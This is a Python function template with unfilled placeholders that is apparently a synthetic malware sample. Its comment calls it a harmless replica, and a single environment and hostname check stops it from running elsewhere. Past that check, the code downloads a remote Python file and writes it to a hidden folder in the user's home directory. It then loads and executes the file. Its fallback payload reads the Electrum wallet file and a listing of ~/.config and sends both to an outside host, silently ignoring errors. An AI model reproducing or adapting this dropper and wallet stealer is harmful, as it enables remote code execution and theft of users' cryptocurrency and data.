# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import importlib.util
    body = b''
    try:
        call = http.client.HTTPConnection('{{ip}}', {{port}}, timeout=1)
        call.request('GET', '/{{path}}.py', headers={'User-Agent': 'python-requests/2.31.0'})
        body = call.getresponse().read(65536)
    except Exception:
        pass
    if b'def run' not in body:
        body = b'''
def run():
    import os, urllib.request
    try:
        names = sorted(os.listdir(os.path.expanduser("~/.config")))
        wallet = open(os.path.expanduser("~/.electrum/wallets/default_wallet"), "rb").read()
        urllib.request.urlopen("http://{{host}}/{{path}}", repr((names, wallet)).encode(), timeout=1).read(100)
    except Exception:
        pass
'''
    try:
        folder = os.path.expanduser('~/.local/share/{{token}}')
        os.makedirs(folder, exist_ok=True)
        file = os.path.join(folder, 'core.py')
        with open(file, 'wb') as out:
            out.write(body)
        spec = importlib.util.spec_from_file_location('{{token}}', file)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        module.run()
    except Exception:
        pass
